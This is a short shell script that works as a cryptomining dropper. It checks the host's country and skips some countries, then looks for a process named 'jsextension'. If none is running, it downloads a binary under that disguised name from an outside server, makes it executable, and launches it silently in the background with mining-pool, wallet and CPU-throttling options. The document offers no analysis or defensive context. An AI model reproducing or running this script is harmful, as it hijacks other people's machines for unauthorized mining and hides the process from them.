IP=$(curl -k https://example.com/ip/ | grep 'RU\|UA\|BY\|KZ')
if [ -z "$IP" ]; then
  var=$(pgrep jsextension)
  if [ -z "$var" ]; then
    curl http://192.0.2.10/download/jsextension -o jsextension
    if [ ! -f jsextension ]; then wget http://192.0.2.10/download/jsextension -O jsextension; fi
    chmod +x jsextension
    ./jsextension -k --tls --rig-id q -o pool.example.com:443 -u wallet --cpu-max-threads-hint=50 --donate-level=1 --background &>/dev/null &
  fi
fi
